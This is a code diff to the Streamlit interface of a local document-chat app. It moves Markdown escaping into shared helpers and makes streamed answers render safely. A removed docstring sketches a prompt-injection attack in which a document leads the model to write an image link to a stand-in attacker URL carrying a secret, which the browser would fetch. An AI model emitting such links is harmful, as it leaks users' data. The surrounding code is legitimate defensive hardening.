@@ -10,7 +10,7 @@ from __future__ import annotations
 
 import html
 import re
-from collections.abc import Iterator
+from collections.abc import Iterable, Iterator
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
@@ -30,8 +30,10 @@ from gpt4all_rag import (
     UploadRejected,
     save_upload,
 )
+from gpt4all_rag.markdown import code_span, escape_text, safe_markdown
+from gpt4all_rag.settings import RetrievalMode
 
-MODES = ("hybrid", "vector", "keyword")
+MODES: tuple[RetrievalMode, ...] = ("hybrid", "vector", "keyword")
 MODE_LABELS = {
     "hybrid": "Hybrid (meaning + keywords)",
     "vector": "Meaning (vector search)",
@@ -52,9 +54,10 @@ STOP_WORDS = frozenset({
     "give", "list", "show", "document", "documents",
 })
 # fmt: on
-_MARKDOWN_SPECIALS = re.compile(r"([\\`*_\[\]<>#|~$])")
 FEEDBACK_FILE = "feedback.jsonl"
 FINETUNE_FILE = "finetune.jsonl"
+CURSOR = "▌"
+_LINE_ENDS = re.compile(r"\r\n|\r|\n")
 
 
 @dataclass(frozen=True)
@@ -63,23 +66,10 @@ class Choices:
 
     settings: Settings
     k: int
-    mode: str
+    mode: RetrievalMode
 
 
 # --- small helpers ---------------------------------------------------------------
-
-
-def md_escape(text: str) -> str:
-    """Text shown literally inside Streamlit Markdown (file names, reasons)."""
-    return _MARKDOWN_SPECIALS.sub(r"\\\1", text)
-
-
-def md_code(text: str) -> str:
-    """Text as a Markdown code span (backslash escapes do not work inside one)."""
-    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
-    fence = "`" * (longest + 1)
-    pad = " " if text.startswith("`") or text.endswith("`") else ""
-    return f"{fence}{pad}{text}{pad}{fence}"
 
 
 def count(number: int, noun: str) -> str:
@@ -114,36 +104,31 @@ def highlight(text: str, question: str) -> str:
 
 
 def passage_html(text: str, question: str) -> str:
-    """A passage as one HTML block, so Markdown inside it is shown as written."""
-    body = highlight(text.strip(), question).replace("\n", "<br>")
+    """A passage as one HTML block, so Markdown inside it is shown as written.
+
+    Every line end (``\\r`` included) becomes ``<br>``: a blank line would end the
+    HTML block, and the Markdown after it would be rendered, images included.
+    """
+    body = _LINE_ENDS.sub("<br>", highlight(text.strip(), question))
     return f'<div class="passage">{body}</div>'
 
 
-def inert_images(text: str) -> str:
-    """Markdown whose images show as text instead of being fetched.
+def rendered_stream(pieces: Iterable[str]) -> Iterator[str]:
+    """What to show after each piece of a streamed answer: all the text so far, with a cursor.
 
-    A document can carry instructions that make the model write
-    ``![](https://attacker/?q=secret)``; the browser would fetch that URL on its
-    own. Links stay, since they need a click.
+    The whole text is rendered again each time, never a piece alone, so a
+    construct that the stream splits (``\\`` then ``![x](...)``) is judged whole.
     """
-    return text.replace("![", "\\![")
-
-
-def inert_image_stream(tokens: Iterator[str]) -> Iterator[str]:
-    """``inert_images`` over a token stream, where ``!`` and ``[`` may come apart."""
-    held = ""
-    for token in tokens:
-        text = held + token
-        held = "!" if text.endswith("!") else ""
-        yield inert_images(text[: len(text) - len(held)])
-    if held:
-        yield held
+    text = ""
+    for piece in pieces:
+        text += piece
+        yield safe_markdown(text + CURSOR)
 
 
 def source_label(source: Source) -> str:
     """The expander title of a source: number, file and page."""
     where = f" · page {source.page}" if source.page is not None else ""
-    return f"[{source.number}] {md_escape(source.file)}{where}"
+    return f"\\[{source.number}\\] {escape_text(source.file)}{where}"
 
 
 def document_file(folder: Path, relative: str) -> Path | None:
@@ -227,7 +212,9 @@ def base_settings() -> Settings:
     try:
         return Settings()
     except ValueError as exc:
-        st.error(f"The settings in the environment or `.env` are not valid:\n\n{exc}")
+        st.error(
+            "The settings in the environment or `.env` are not valid:\n\n" + escape_text(str(exc))
+        )
         st.stop()
 
 
@@ -236,7 +223,7 @@ def assistant_for(settings: Settings) -> DocumentAssistant:
     try:
         return load_assistant(settings.model_dump_json(), settings)
     except USER_ERRORS as exc:
-        st.error(f"Cannot open the index: {exc}")
+        st.error(f"Cannot open the index: {escape_text(str(exc))}")
         st.stop()
 
 
@@ -248,7 +235,7 @@ def model_problem(settings: Settings) -> str | None:
     if path.is_file():
         return None
     return (
-        f"Model file not found: {md_code(str(path))}. Choose another model under **Settings** "
+        f"Model file not found: {code_span(str(path))}. Choose another model under **Settings** "
         "in the sidebar, or set `GPT4ALL_RAG_MODEL_PATH` to a `.gguf` file."
     )
 
@@ -293,14 +280,14 @@ def settings_panel(base: Settings) -> Choices:
         update["temperature"] = st.slider(
             "Temperature", 0.0, 2.0, float(base.temperature), 0.05, key="temperature"
         )
-    return Choices(base.model_copy(update=update), int(k), str(mode))
+    return Choices(base.model_copy(update=update), int(k), mode or base.retrieval_mode)
 
 
 def model_captions(assistant: DocumentAssistant) -> None:
     """Which language and embedding models are active."""
     st.sidebar.caption(
-        f"Model: {md_code(assistant.model_name)}  \n"
-        f"Embeddings: {md_code(assistant.status().embedding_model)}"
+        f"Model: {code_span(assistant.model_name)}  \n"
+        f"Embeddings: {code_span(assistant.status().embedding_model)}"
     )
 
 
@@ -315,7 +302,7 @@ def sync(assistant: DocumentAssistant) -> None:
         done = event.files_done / event.files_total if event.files_total else 1.0
         bar.progress(
             min(done, 1.0),
-            text=f"Indexing {md_escape(event.current)} "
+            text=f"Indexing {escape_text(event.current)} "
             f"({event.files_done}/{event.files_total} files, "
             f"{count(event.chunks_done, 'chunk')})",
         )
@@ -325,7 +312,7 @@ def sync(assistant: DocumentAssistant) -> None:
         assistant.settings.documents_dir.mkdir(parents=True, exist_ok=True)
         report = assistant.ingest(progress=show)
     except (*USER_ERRORS, OSError) as exc:
-        notify("error", f"Indexing failed: {exc}")
+        notify("error", f"Indexing failed: {escape_text(str(exc))}")
         return
     finally:
         bar.empty()
@@ -334,22 +321,25 @@ def sync(assistant: DocumentAssistant) -> None:
         notify("success", summary)
 
 
-def save_uploads(folder: Path, files: list[Any]) -> None:
+def save_uploads(settings: Settings, files: list[Any]) -> None:
     """Save uploaded files into the documents folder, saying what happened to each."""
     for upload in files:
+        name = escape_text(upload.name)
         try:
-            saved = save_upload(folder, upload.name, upload.getvalue())
+            saved = save_upload(
+                settings.documents_dir, upload.name, upload.getvalue(), settings.max_file_mb
+            )
         except UploadRejected as exc:
-            notify("error", f"{md_escape(exc.name)} was not added: {exc.reason}.")
+            notify("error", f"{name} was not added: {escape_text(exc.reason)}.")
             continue
         except OSError as exc:
-            notify("error", f"{md_escape(upload.name)} could not be saved: {exc.strerror or exc}.")
+            notify("error", f"{name} could not be saved: {escape_text(exc.strerror or str(exc))}.")
             continue
         if saved.name != upload.name:
             notify(
                 "warning",
-                f"A different file named {md_escape(upload.name)} is already in the folder; "
-                f"the upload was saved as {md_escape(saved.name)}.",
+                f"A different file named {name} is already in the folder; "
+                f"the upload was saved as {escape_text(saved.name)}.",
             )
 
 
@@ -364,7 +354,7 @@ def upload_section(assistant: DocumentAssistant) -> None:
     )
     if not files:
         return
-    save_uploads(assistant.settings.documents_dir, list(files))
+    save_uploads(assistant.settings, list(files))
     sync(assistant)
     st.session_state.uploader += 1
     st.rerun()
@@ -376,9 +366,9 @@ def delete_document(assistant: DocumentAssistant, path: str) -> None:
     try:
         assistant.remove_document(path)
     except (*USER_ERRORS, OSError) as exc:
-        notify("error", f"Could not delete {md_escape(path)}: {exc}")
+        notify("error", f"Could not delete {escape_text(path)}: {escape_text(str(exc))}")
         return
-    notify("success", f"Deleted {md_escape(path)}.")
+    notify("success", f"Deleted {escape_text(path)}.")
 
 
 def ask_delete(path: str | None) -> None:
@@ -388,7 +378,7 @@ def ask_delete(path: str | None) -> None:
 
 def confirm_delete_row(assistant: DocumentAssistant, path: str) -> None:
     """Delete for real, or cancel."""
-    st.warning(f"Delete {md_escape(path)} from the documents folder?")
+    st.warning(f"Delete {escape_text(path)} from the documents folder?")
     yes, no = st.columns(2)
     yes.button(
         "Delete",
@@ -403,7 +393,7 @@ def confirm_delete_row(assistant: DocumentAssistant, path: str) -> None:
 def document_row(assistant: DocumentAssistant, path: str, chunks: int) -> None:
     """One indexed file: its name, chunk count and a delete button."""
     name, action = st.columns([5, 1], vertical_alignment="center")
-    name.markdown(f"**{md_escape(path)}**  \n{count(chunks, 'chunk')}")
+    name.markdown(f"**{escape_text(path)}**  \n{count(chunks, 'chunk')}")
     action.button(
         "",
         icon=":material/delete:",
@@ -424,7 +414,7 @@ def failure_list(assistant: DocumentAssistant) -> None:
     label = f"{count(len(failures), 'file')} could not be indexed"
     with st.expander(label, expanded=True, icon=":material/warning:"):
         for path, reason in failures:
-            st.markdown(f"**{md_escape(path)}**: {md_escape(reason)}")
+            st.markdown(f"**{escape_text(path)}**: {escape_text(reason)}")
 
 
 def documents_section(assistant: DocumentAssistant) -> int:
@@ -432,7 +422,7 @@ def documents_section(assistant: DocumentAssistant) -> int:
     folder = assistant.settings.documents_dir
     st.header("Documents")
     upload_section(assistant)
-    st.caption(f"Folder: {md_code(str(folder))}")
+    st.caption(f"Folder: {code_span(str(folder))}")
     if st.button(
         "Rescan folder", key="rescan", help="Index files added, changed or removed outside the app"
     ):
@@ -450,7 +440,13 @@ def documents_section(assistant: DocumentAssistant) -> int:
 
 def feedback_store(settings: Settings) -> FeedbackStore:
     """Ratings live next to the index, on this computer only."""
-    return FeedbackStore(settings.index_dir / FEEDBACK_FILE)
+    return feedback_store_at(str(settings.index_dir / FEEDBACK_FILE))
+
+
+@st.cache_resource(show_spinner=False)
+def feedback_store_at(path: str) -> FeedbackStore:
+    """One store per file in this process, so its lock orders the writes of every tab."""
+    return FeedbackStore(Path(path))
 
 
 def save_rating(message: dict[str, Any], store: FeedbackStore) -> None:
@@ -463,7 +459,7 @@ def save_rating(message: dict[str, Any], store: FeedbackStore) -> None:
     try:
         store.record(message["question"], context, message["content"], 1 if value == 1 else -1)
     except OSError as exc:
-        st.toast(f"Could not save the rating: {exc}")
+        st.toast(f"Could not save the rating: {escape_text(str(exc))}")
 
 
 def feedback_section(settings: Settings) -> None:
@@ -472,7 +468,7 @@ def feedback_section(settings: Settings) -> None:
         "Save feedback on this computer",
         key="feedback_on",
         help="Adds 👍/👎 under each answer. Ratings are written to "
-        f"{settings.index_dir / FEEDBACK_FILE} and never leave this computer.",
+        f"{code_span(str(settings.index_dir / FEEDBACK_FILE))} and never leave this computer.",
     )
     if not st.session_state.feedback_on:
         return
@@ -481,7 +477,7 @@ def feedback_section(settings: Settings) -> None:
         try:
             written = feedback_store(settings).export_finetune(target)
         except OSError as exc:
-            st.error(f"Could not export: {exc}")
+            st.error(f"Could not export: {escape_text(str(exc))}")
             return
         st.session_state.exported = (str(target), written)
     if st.session_state.exported:
@@ -490,7 +486,7 @@ def feedback_section(settings: Settings) -> None:
 
 def exported_download(path: str, written: int) -> None:
     """Where the export went, and a button to download it."""
-    st.success(f"Exported {count(written, 'liked answer')} to {md_code(path)}.")
+    st.success(f"Exported {count(written, 'liked answer')} to {code_span(path)}.")
     file = Path(path)
     if file.is_file():
         st.download_button(
@@ -515,7 +511,7 @@ def source_expander(source: Source, question: str, folder: Path, key: str) -> No
             st.caption("This file is no longer in the documents folder.")
             return
         st.download_button(
-            f"Download {md_escape(file.name)}",
+            f"Download {escape_text(file.name)}",
             data=file.read_bytes,
             file_name=file.name,
             key=key,
@@ -545,7 +541,7 @@ def show_message(message: dict[str, Any], assistant: DocumentAssistant) -> None:
         if message.get("error"):
             st.error(message["error"])
             return
-        st.markdown(inert_images(message["content"]))
+        st.markdown(safe_markdown(message["content"]))
         if message.get("answer") is not None:
             show_answer_extras(message, assistant)
 
@@ -553,7 +549,11 @@ def show_message(message: dict[str, Any], assistant: DocumentAssistant) -> None:
 def stream_answer(
     assistant: DocumentAssistant, question: str, history: list[dict[str, str]], choices: Choices
 ) -> Answer:
-    """Write the answer token by token as the model produces it; return the finished answer."""
+    """Show the answer as the model writes it; return the finished answer.
+
+    The text is rendered by ``safe_markdown`` (nothing in it can load a remote
+    image or follow a link), the whole of it again after each token.
+    """
     finished: list[Answer] = []
 
     def tokens() -> Iterator[str]:
@@ -564,7 +564,14 @@ def stream_answer(
             else:
                 yield event
 
-    st.write_stream(inert_image_stream(tokens()), cursor="▌")
+    shown = st.empty()
+    try:
+        for markdown in rendered_stream(tokens()):
+            shown.markdown(markdown)
+    except BaseException:
+        shown.empty()
+        raise
+    shown.markdown(safe_markdown(finished[-1].text))
     return finished[-1]
 
 
@@ -572,10 +579,11 @@ def answer_error(exc: Exception) -> str:
     """The error box text for a question that could not be answered."""
     if isinstance(exc, ModelNotFound):
         return (
-            f"Cannot load the model: {exc}. Choose another model under **Settings** in the "
+            f"Cannot load the model: {escape_text(str(exc))}. Choose another model under "
+            "**Settings** in the "
             "sidebar, or set `GPT4ALL_RAG_MODEL_PATH`."
         )
-    return f"Could not answer: {exc}"
+    return f"Could not answer: {escape_text(str(exc))}"
 
 
 def answer(question: str, assistant: DocumentAssistant, choices: Choices) -> None:
@@ -583,7 +591,7 @@ def answer(question: str, assistant: DocumentAssistant, choices: Choices) -> Non
     history = chat_history()
     st.session_state.messages.append({"role": "user", "content": question})
     with st.chat_message("user"):
-        st.markdown(question)
+        st.markdown(safe_markdown(question))
     message: dict[str, Any] = {"role": "assistant", "question": question, "id": next_id()}
     with st.chat_message("assistant"):
         try:
@@ -607,7 +615,7 @@ def empty_folder_info(folder: Path) -> None:
     """What to do when nothing is indexed yet."""
     st.info(
         "**No documents yet.** Add files with **Add documents** in the sidebar, or copy them "
-        f"into {md_code(str(folder))} and press **Rescan folder**. PDF, Word, PowerPoint, "
+        f"into {code_span(str(folder))} and press **Rescan folder**. PDF, Word, PowerPoint, "
         "EPUB, Markdown, HTML, CSV, e-mail and text files are supported."
     )
 
